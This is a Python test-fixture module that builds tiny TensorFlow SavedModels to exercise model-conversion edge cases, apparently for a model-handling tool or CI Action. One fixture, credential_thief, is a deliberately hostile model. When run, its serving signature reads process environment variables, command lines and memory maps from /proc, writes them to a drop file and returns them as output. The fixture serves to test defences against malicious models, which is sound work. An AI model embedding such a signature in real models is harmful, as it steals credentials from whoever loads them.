"""Tiny models built at test time (TensorFlow imported lazily, inside the builders)."""

from __future__ import annotations

import os
from pathlib import Path

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")


def keras_classifier(path: Path) -> Path:
    """A Keras 3 model exported with model.export(): conv, depthwise conv, dense, softmax."""
    import importlib.util

    spec = importlib.util.spec_from_file_location(
        "make_demo_model", Path(__file__).parents[2] / "examples" / "make_demo_model.py"
    )
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.build(path)
    return path


def two_signature_module(path: Path) -> Path:
    """A tf.Module with two signatures: serving_default (x*2+1) and 'square' (x*x)."""
    import tensorflow as tf

    class TwoSignatures(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            self.offset = tf.Variable(1.0)

        @tf.function(input_signature=[tf.TensorSpec([None, 3], tf.float32, name="x")])
        def double(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
            return {"doubled": x * 2.0 + self.offset}

        @tf.function(input_signature=[tf.TensorSpec([None, 3], tf.float32, name="x")])
        def square(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
            return {"squared": x * x}

    module = TwoSignatures()
    tf.saved_model.save(
        module, str(path), signatures={"serving_default": module.double, "square": module.square}
    )
    return path


def two_input_two_output(path: Path) -> Path:
    """Float features + int32 token ids in; a float score and an int32 argmax out."""
    import tensorflow as tf

    class TwoInTwoOut(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            rng = tf.random.Generator.from_seed(3)
            self.embedding = tf.Variable(rng.normal([10, 4]))
            self.dense = tf.Variable(rng.normal([4, 5]))

        @tf.function(
            input_signature=[
                tf.TensorSpec([None, 4], tf.float32, name="features"),
                tf.TensorSpec([None, 6], tf.int32, name="tokens"),
            ]
        )
        def serve(self, features: tf.Tensor, tokens: tf.Tensor) -> dict[str, tf.Tensor]:
            pooled = tf.reduce_mean(tf.gather(self.embedding, tokens), axis=1)
            logits = tf.matmul(tf.nn.tanh(features + pooled), self.dense)
            return {
                "score": tf.nn.softmax(logits),
                "best": tf.argmax(logits, axis=-1, output_type=tf.int32),
            }

    module = TwoInTwoOut()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def lgamma_model(path: Path) -> Path:
    """tf.math.lgamma, which tf2onnx 1.17 cannot convert (it has no ONNX mapping)."""
    import tensorflow as tf

    class Lgamma(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
        def serve(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
            return {"y": tf.math.lgamma(tf.abs(x) + 1.0) * 2.0}

    module = Lgamma()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def peaked_classifier(path: Path) -> Path:
    """16 features -> 10 classes with confident (peaked) softmax outputs: top-1 is meaningful."""
    import tensorflow as tf

    class Classifier(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            rng = tf.random.Generator.from_seed(11)
            self.w1 = tf.Variable(rng.normal([16, 32], stddev=0.6))
            self.b1 = tf.Variable(rng.normal([32], stddev=0.1))
            self.w2 = tf.Variable(rng.normal([32, 10], stddev=0.8))

        @tf.function(input_signature=[tf.TensorSpec([None, 16], tf.float32, name="features")])
        def serve(self, features: tf.Tensor) -> dict[str, tf.Tensor]:
            hidden = tf.nn.relu(tf.matmul(features, self.w1) + self.b1)
            return {"probabilities": tf.nn.softmax(tf.matmul(hidden, self.w2) * 2.0)}

    module = Classifier()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def determinant(path: Path) -> Path:
    """tf.linalg.det: no TFLite builtin, so TFLite needs Flex (SELECT_TF_OPS)."""
    import tensorflow as tf

    class Det(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 3, 3], tf.float32, name="m")])
        def serve(self, m: tf.Tensor) -> dict[str, tf.Tensor]:
            return {"det": tf.linalg.det(m)}

    module = Det()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def mixed_case_names(path: Path) -> Path:
    """Signature input and output keys in mixed case ("Feat_In" -> "Out_Y")."""
    import tensorflow as tf

    class Mixed(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="Feat_In")])
        def serve(self, Feat_In: tf.Tensor) -> dict[str, tf.Tensor]:
            return {"Out_Y": Feat_In * 2.0 + 1.0}

    module = Mixed()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def large_outputs(path: Path) -> Path:
    """exp of a dense layer: outputs up to ~1e5, where each runtime's own exp rounds
    differently by more than 1e-4 (float32 keeps ~7 significant digits)."""
    import numpy as np
    import tensorflow as tf

    weights = tf.constant(np.random.default_rng(3).normal(0, 1.5, size=(64, 256)), tf.float32)

    class Large(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1, 64], tf.float32, name="x")])
        def serve(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
            return {"y": tf.exp(tf.clip_by_value(tf.matmul(x, weights), -12.0, 12.0))}

    module = Large()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def nan_everywhere(path: Path) -> Path:
    """log(-1 - x²): NaN for every input, in every runtime."""
    import tensorflow as tf

    class Nan(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1, 8], tf.float32, name="x")])
        def serve(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
            return {"y": tf.math.log(-1.0 - x * x)}

    module = Nan()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def top_k_scores(path: Path) -> Path:
    """Scores and the top 5 of them: only "top" takes its order from TopKV2."""
    import numpy as np
    import tensorflow as tf

    weights = tf.constant(np.random.default_rng(4).normal(size=(16, 32)).astype(np.float32))

    class TopK(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1, 16], tf.float32, name="x")])
        def serve(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
            scores = tf.matmul(x, weights)
            return {"scores": scores, "top": tf.math.top_k(scores, k=5).values}

    module = TopK()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def token_classifier(path: Path) -> Path:
    """Keras Embedding over 5000 tokens, sequence length dynamic: ids int32 [None, None]."""
    import tf_keras

    ids = tf_keras.Input(shape=(None,), dtype="int32", name="ids")
    x = tf_keras.layers.Embedding(5000, 8)(ids)
    x = tf_keras.layers.GlobalAveragePooling1D()(x)
    out = tf_keras.layers.Dense(3, activation="softmax", name="probs")(x)
    tf_keras.Model(ids, out).save(str(path), save_format="tf")
    return path


def image_needing_size(path: Path) -> Path:
    """An image model that needs H and W divisible by 64 (224 is not: 256 is) and shrinks
    the image by 4 (a 1×1 image would resize to 0×0)."""
    import tensorflow as tf

    class Tiles(tf.Module):
        @tf.function(
            input_signature=[tf.TensorSpec([None, None, None, 3], tf.float32, name="image")]
        )
        def serve(self, image: tf.Tensor) -> dict[str, tf.Tensor]:
            size = tf.shape(image)[1:3]
            small = tf.image.resize(image, size // 4)
            tiles = tf.reshape(image, [tf.shape(image)[0], -1, 64, size[1], 3])
            return {"tiles": tf.reduce_mean(tiles, axis=[1, 3]), "mean": tf.reduce_mean(small)}

    module = Tiles()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def string_input(path: Path) -> Path:
    """A string input: the length of each string (TensorFlow's dtype name is "string")."""
    import tensorflow as tf

    class Lengths(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None], tf.string, name="text")])
        def serve(self, text: tf.Tensor) -> dict[str, tf.Tensor]:
            return {"length": tf.strings.length(text), "upper": tf.strings.upper(text)}

    module = Lengths()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def credential_thief(path: Path, drop_dir: str) -> Path:
    """A hostile SavedModel: its signature reads what could hold the Action's credentials —
    ``/proc/1/environ`` (the container's entrypoint) and, from the ``PPid`` in
    ``/proc/self/status``, its parent's ``environ``, ``cmdline`` and ``maps`` (readable only
    where ``mem`` could be opened too) — skipping what it may not read, writes all it got to
    ``<drop_dir>/found-<pid>.txt`` and returns it as the string output ``found``, next to
    ``y = 2x``."""
    import tensorflow as tf

    class Thief(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 3], tf.float32, name="x")])
        def serve(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
            status = tf.io.read_file("/proc/self/status")
            pid = tf.strings.regex_replace(status, r"(?s)^.*\nPid:\s*(\d+)\n.*$", r"\1")
            ppid = tf.strings.regex_replace(status, r"(?s)^.*\nPPid:\s*(\d+)\n.*$", r"\1")
            parent = tf.strings.join(["/proc/", ppid, "/"])
            paths = tf.stack(
                [
                    "/proc/1/environ",
                    parent + "environ",
                    parent + "cmdline",
                    parent + "maps",
                    "/proc/self/status",
                ]
            )

            def read(name: tf.Tensor) -> tf.Tensor:
                return tf.strings.join(["<<< ", name, "\n", tf.io.read_file(name), "\n>>>\n"])

            found = (
                tf.data.Dataset.from_tensor_slices(paths)
                .map(read)
                .ignore_errors()  # what it may not read is left out
                .reduce(tf.constant(""), lambda text, more: text + more)
            )
            drop = tf.strings.join([drop_dir, "/found-", pid, ".txt"])
            with tf.control_dependencies([tf.io.write_file(drop, found)]):
                return {"y": x * 2.0, "found": tf.identity(found)}

    module = Thief()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def versioned_classifier(
    path: Path, *, hidden: int = 32, tanh: bool = False, batch: int | None = None
) -> Path:
    """16 features -> 10 classes, in versions a change to a model makes: a wider hidden layer
    (``hidden``), an op added (``tanh``), the input's batch dimension fixed (``batch``)."""
    import tensorflow as tf

    class Classifier(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            rng = tf.random.Generator.from_seed(11)
            self.w1 = tf.Variable(rng.normal([16, hidden], stddev=0.6))
            self.b1 = tf.Variable(rng.normal([hidden], stddev=0.1))
            self.w2 = tf.Variable(rng.normal([hidden, 10], stddev=0.8))

        @tf.function(input_signature=[tf.TensorSpec([batch, 16], tf.float32, name="features")])
        def serve(self, features: tf.Tensor) -> dict[str, tf.Tensor]:
            hidden_values = tf.nn.relu(tf.matmul(features, self.w1) + self.b1)
            if tanh:
                hidden_values = tf.math.tanh(hidden_values)
            return {"probabilities": tf.nn.softmax(tf.matmul(hidden_values, self.w2) * 2.0)}

    module = Classifier()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def peak_detector(path: Path, *, with_heatmap: bool = True) -> Path:
    """A CenterNet-like head on a flat heatmap (sigmoid of a small convolution: every value
    within about 1e-3 of 0.5): local peaks (``x == MaxPool(x)``), the 200 best by TopKV2, as
    rows of (score, index). On random inputs the peaks are near-tied, so last-bit differences
    between runtimes move rows in and out. ``with_heatmap`` also outputs the heatmap."""
    import numpy as np
    import tensorflow as tf

    kernel = tf.constant(
        np.random.default_rng(7).normal(scale=1e-3, size=(3, 3, 3, 8)).astype(np.float32)
    )

    class PeakDetector(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1, 32, 32, 3], tf.float32, name="image")])
        def serve(self, image: tf.Tensor) -> dict[str, tf.Tensor]:
            heatmap = tf.sigmoid(tf.nn.conv2d(image, kernel, strides=1, padding="SAME"))
            pooled = tf.nn.max_pool2d(heatmap, ksize=3, strides=1, padding="SAME")
            peaks = heatmap * tf.cast(tf.equal(heatmap, pooled), tf.float32)
            top = tf.math.top_k(tf.reshape(peaks, [1, -1]), k=200)
            rows = tf.stack([top.values, tf.cast(top.indices, tf.float32)], axis=-1)
            outputs = {"detections": rows}
            if with_heatmap:
                outputs["heatmap"] = heatmap
            return outputs

    module = PeakDetector()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def ratio_resize(path: Path) -> Path:
    """An image resized by a scalar ``downsample_ratio`` input, as Robust Video Matting does:
    a negative ratio makes TensorFlow fail ("output dimensions must be positive")."""
    import tensorflow as tf

    class RatioResize(tf.Module):
        @tf.function(
            input_signature=[
                tf.TensorSpec([1, 64, 64, 3], tf.float32, name="src"),
                tf.TensorSpec([], tf.float32, name="downsample_ratio"),
            ]
        )
        def serve(self, src: tf.Tensor, downsample_ratio: tf.Tensor) -> dict[str, tf.Tensor]:
            size = tf.cast(tf.round(64.0 * downsample_ratio), tf.int32)
            small = tf.image.resize(src, tf.stack([size, size]))
            return {"mean": tf.reduce_mean(small, axis=[1, 2])}

    module = RatioResize()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def context_cropper(path: Path) -> Path:
    """A sequence model that crops 100 steps of context on each side, as SpliceAI crops 5000:
    on an input shorter than 201 steps it runs and returns an empty output."""
    import numpy as np
    import tensorflow as tf

    kernel = tf.constant(np.random.default_rng(5).normal(size=(3, 4, 2)).astype(np.float32))

    class Cropper(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1, None, 4], tf.float32, name="sequence")])
        def serve(self, sequence: tf.Tensor) -> dict[str, tf.Tensor]:
            features = tf.nn.conv1d(sequence, kernel, stride=1, padding="SAME")
            return {"scores": tf.nn.softmax(features[:, 100:-100, :])}

    module = Cropper()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path


def table_lookup(path: Path) -> Path:
    """A vocabulary table in front of a dense layer: a resource that freezing the signature
    cannot turn into constants, so op counts come from the MetaGraph."""
    import tensorflow as tf

    class Lookup(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            keys = tf.constant(["a", "b", "c"])
            self.table = tf.lookup.StaticHashTable(
                tf.lookup.KeyValueTensorInitializer(keys, tf.constant([0, 1, 2], tf.int64)), -1
            )
            self.weights = tf.Variable(tf.ones([1, 2]))

        @tf.function(input_signature=[tf.TensorSpec([1], tf.string, name="word")])
        def serve(self, word: tf.Tensor) -> dict[str, tf.Tensor]:
            index = tf.cast(self.table.lookup(word), tf.float32)
            return {"score": tf.matmul(tf.reshape(index, [1, 1]), self.weights)}

    module = Lookup()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path
